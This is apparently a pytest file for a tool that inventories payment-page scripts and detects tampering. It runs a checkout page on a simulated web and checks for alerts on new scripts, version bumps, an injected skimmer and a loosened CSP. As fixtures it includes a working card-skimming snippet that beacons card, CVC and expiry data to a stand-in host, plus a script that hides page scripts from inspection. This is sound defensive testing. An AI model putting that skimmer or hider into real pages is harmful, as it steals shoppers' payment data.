"""Payment-page script inventory, authorisation and tamper detection (PCI DSS 6.4.3 / 11.6.1), in
real Chromium over the virtual web: a checkout page's baseline → its scripts authorised → (e)
nothing changes: nothing; (a) a new third-party script: `unauthorized_script`; (b) an unpinned
library's version bump: `script_changed` low, similar; (c) a skimmer appended to a pinned
first-party script: `script_changed` high, dissimilar, its exfiltration host named; (d) the CSP
loosened to allow that host: `header_changed` high. The report for the period lists all of it."""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

from hostpairs.demoweb.server import Resource, VirtualWeb, html, js
from tests.conftest import run_cli, sqlite_url

PAGE = "https://www.checkout-pp.com/checkout"
CSP = "default-src 'self' https: 'unsafe-inline'; connect-src 'self'"
LOOSE_CSP = "default-src 'self' https: 'unsafe-inline'; connect-src 'self' https://exfil-pp.com"
APP_JS = "\n".join(
    f"function step{i}(form) {{ var field = form.elements['field{i}']; if (!field.value) {{ field.focus(); "
    f"return 'missing {i}'; }} return null; }}" for i in range(12)) + "\nwindow.checkoutReady = true;\n"
SKIMMER = """
(function(){var k=['card','cvc','exp','name'],d={};document.addEventListener('submit',function(){
k.forEach(function(n){var e=document.querySelector('[name='+n+']');d[n]=e&&e.value;});
navigator.sendBeacon('https://exfil-pp.com/c',btoa(JSON.stringify(d)));},true);})();
"""


def library(version: str) -> str:
    body = "".join(f"lib.fn{i} = function (a, b) {{ return a * {i} + b - {i % 7}; }};\n" for i in range(120))
    return f"/*! checkout-lib v{version} */\nvar lib = {{version: '{version}'}};\n{body}" + \
        "var s = document.createElement('script'); s.src = 'https://fourth-pp.org/f.js'; document.head.appendChild(s);\n"


# A script that hides the page's scripts from anything reading `document.scripts` in the page:
# the inventory reads them in the capture's own isolated world.
HIDER = "Object.defineProperty(Document.prototype, 'scripts', {get() { return document.getElementsByTagName('none'); }});"
SRI_BODY = "window.sriChecked = 'yes, this body is the one the integrity attribute names';"
SRI = "sha384-" + base64.b64encode(hashlib.sha384(SRI_BODY.encode()).digest()).decode()


def checkout_page(extra: str = "") -> str:
    return f"""<!doctype html><html><head><title>Checkout</title>
<script>{HIDER}</script>
<script src="/js/app.js"></script>
<script src="https://cdn-lib-pp.net/lib.js"></script>
<script src="https://cdn-sri-pp.net/sri.js" integrity="{SRI}" crossorigin="anonymous"></script>
<script>window.checkout = {{step: 1}};</script>{extra}
</head><body><form><input name="card"><input name="cvc"></form>
<iframe src="https://js.stripe.com/v3/frame"></iframe></body></html>"""


def sites(app_js: str = APP_JS, lib_version: str = "3.7.0", csp: str = CSP, extra: str = "") -> dict:
    return {
        "www.checkout-pp.com": {"/checkout": Resource(body=checkout_page(extra), headers={
            "Content-Security-Policy": csp, "Strict-Transport-Security": "max-age=31536000"}),
            "/js/app.js": js(app_js)},
        "cdn-lib-pp.net": {"/lib.js": js(library(lib_version))},
        "cdn-sri-pp.net": {"/sri.js": Resource(body=SRI_BODY, content_type="application/javascript",
                                               headers={"Access-Control-Allow-Origin": "*"})},
        "fourth-pp.org": {"/f.js": js("window.fourth = 4;")},
        "new-third-pp.com": {"/t.js": js("window.third = 3;")},
        "js.stripe.com": {"/v3/frame": html("<script src='https://js.stripe.com/v3/in.js'></script>"),
                          "/v3/in.js": js("window.inFrame = 1;")},
    }


def crawl(seeds: Path, db: str, web: VirtualWeb) -> list[dict]:
    """One check of the group; the alerts it raised."""
    before = {a["id"] for a in alerts(db)}
    result = run_cli("crawl", "--seeds", str(seeds), "--db", db, "--host-rules", web.host_rules, "--dwell", "0.5")
    assert result.returncode == 0, result.stderr
    return [a for a in alerts(db) if a["id"] not in before]


def alerts(db: str) -> list[dict]:
    return [json.loads(line) for line in run_cli("alerts", "--json", "--db", db).stdout.splitlines()]


def inventory(db: str) -> dict[str, dict]:
    result = run_cli("scripts", PAGE, "--json", "--db", db)
    assert result.returncode == 0, result.stderr
    return {s["script"]: s for s in json.loads(result.stdout)["scripts"]}


def test_checkout_page_inventory_authorisations_and_tamper_alerts(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds.toml"
    seeds.write_text(f'[groups.checkout]\nurls = ["{PAGE}"]\ninterval = "1d"\ntags = ["payment"]\n')
    db = sqlite_url(tmp_path)
    with VirtualWeb(sites()) as web:
        # the baseline: nothing authorised yet, so nothing enforced: no alert, every script listed as unauthorised
        assert crawl(seeds, db, web) == []
        found = inventory(db)
        app, lib, sri, fourth = ("https://www.checkout-pp.com/js/app.js", "https://cdn-lib-pp.net/lib.js",
                                 "https://cdn-sri-pp.net/sri.js", "https://fourth-pp.org/f.js")
        inline, hider = (f"inline:{hashlib.sha256(text.encode()).hexdigest()}" for text in ("window.checkout = {step: 1};", HIDER))
        assert {key: s["status"] for key, s in found.items()} == {
            app: "unauthorized", lib: "unauthorized", sri: "unauthorized", fourth: "unauthorized",
            inline: "unauthorized", hider: "unauthorized", "https://js.stripe.com/v3/in.js": "out of scope"}
        assert (found[app]["party"], found[lib]["party"]) == ("first", "third")
        assert found[fourth]["loadedBy"] == [lib] and found[lib]["loadedBy"] == ["parser"]  # a fourth party
        assert (found[sri]["integrity"], found[sri]["integrityMatched"]) == (SRI, True)
        assert found[lib]["integrity"] is None and found[lib]["integrityMatched"] is None
        assert found[app]["versions"][0]["sha256"] == hashlib.sha256(APP_JS.encode()).hexdigest()

        for pattern, extra in ((app, ["--version-pinned"]), (lib, []), ("cdn-sri-pp.net", []), ("fourth-pp.org", []),
                               (inline, []), (hider, [])):
            result = run_cli("scripts", "authorize", pattern, "--justification", f"needed for checkout: {pattern}",
                             "--by", "Ana Auditor", *extra, "--db", db)
            assert result.returncode == 0, result.stderr
            if extra:
                assert result.stdout.strip().endswith("pinned to " + hashlib.sha256(APP_JS.encode()).hexdigest())
        assert {s["status"] for s in inventory(db).values()} == {"authorized", "out of scope"}

        # (e) nothing changes: nothing
        assert crawl(seeds, db, web) == []

        # (a) a new third-party script
        web.sites.update(sites(extra="\n<script src='https://new-third-pp.com/t.js'></script>"))
        raised = {a["kind"]: a for a in crawl(seeds, db, web)}
        assert set(raised) == {"unauthorized_script", "new_script_host"}  # the baseline's alert says it too
        new = raised["unauthorized_script"]
        assert (new["kind"], new["child_url"], new["severity"]) == ("unauthorized_script", "https://new-third-pp.com/t.js", "high")
        assert "third party" in new["signals"] and "payment page" in new["signals"]

        # (b) the unpinned library's version bump
        web.sites.update(sites(lib_version="3.7.1", extra="\n<script src='https://new-third-pp.com/t.js'></script>"))
        [bump] = crawl(seeds, db, web)
        assert (bump["kind"], bump["child_url"], bump["severity"]) == ("script_changed", lib, "low")
        assert bump["evidence"]["similarity"] >= 70 and bump["evidence"]["new_hosts"] == []
        assert 0 < bump["evidence"]["bytes_added"] < 100 and 0 < bump["evidence"]["bytes_removed"] < 100
        assert run_cli("alerts", "ack", str(bump["id"]), "--by", "Ana Auditor", "--db", db).returncode == 0

        # (c) a skimmer appended to the pinned first-party script, posting to a new host
        web.sites.update(sites(app_js=APP_JS + SKIMMER, lib_version="3.7.1",
                               extra="\n<script src='https://new-third-pp.com/t.js'></script>"))
        [skim] = crawl(seeds, db, web)
        assert (skim["kind"], skim["child_url"], skim["severity"]) == ("script_changed", app, "high")
        assert skim["evidence"]["new_hosts"] == ["exfil-pp.com"]
        assert skim["evidence"]["similarity"] < 70 and skim["evidence"]["bytes_added"] >= len(SKIMMER.strip())
        assert skim["evidence"]["bytes_removed"] == 0
        assert any(s.startswith("authorisation #1 pinned it") for s in skim["signals"])

        # (d) the CSP loosened to allow the exfiltration host
        web.sites.update(sites(app_js=APP_JS + SKIMMER, lib_version="3.7.1", csp=LOOSE_CSP,
                               extra="\n<script src='https://new-third-pp.com/t.js'></script>"))
        [header] = crawl(seeds, db, web)
        assert (header["kind"], header["severity"]) == ("header_changed", "high")
        assert header["evidence"]["header"] == "content-security-policy"
        assert (header["evidence"]["old"], header["evidence"]["new"]) == (CSP, LOOSE_CSP)
        assert header["signals"] == ["connect-src allows https://exfil-pp.com"]

        # nothing more when nothing changes again (the skimmed script's open script_changed stands
        # for it being unauthorised; the new script's open alert is not repeated)
        assert crawl(seeds, db, web) == []

    report = run_cli("scripts", "report", "--group", "checkout", "--format", "json", "--db", db)
    assert report.returncode == 0, report.stderr
    evidence = json.loads(report.stdout)
    assert len(evidence["checks"]) == 7
    assert [a["kind"] for a in evidence["alerts"]] == ["unauthorized_script", "script_changed", "script_changed",
                                                      "header_changed"]  # the report's: the inventory's kinds
    assert evidence["alerts"][1]["acknowledgedBy"] == "Ana Auditor" and evidence["alerts"][1]["acknowledgedAt"]
    assert evidence["alerts"][0]["acknowledgedBy"] is None
    first, last = evidence["checks"][0], evidence["checks"][-1]
    assert not any(s["authorized"] for s in first["scripts"] if s["inScope"])  # nothing was authorised at the baseline
    assert {s["script"]: s["authorized"] for s in last["scripts"]}[app] is False  # the skimmed version is not
    assert [a["authorizedBy"] for a in evidence["authorizations"]] == ["Ana Auditor"] * 6
    page = run_cli("scripts", "report", "--group", "checkout", "--db", db).stdout
    assert page.startswith("<!doctype html>") and "exfil-pp.com" in page and "Ana Auditor" in page

    assert run_cli("scripts", "report", "--group", "nobody", "--db", db).returncode == 2
    assert run_cli("scripts", "authorize", "not a host!", "--justification", "x", "--by", "y", "--db", db).returncode == 2
    revoked = run_cli("scripts", "revoke", "2", "--by", "Ana Auditor", "--db", db)
    assert revoked.returncode == 0 and inventory(db)[lib]["status"] == "unauthorized"
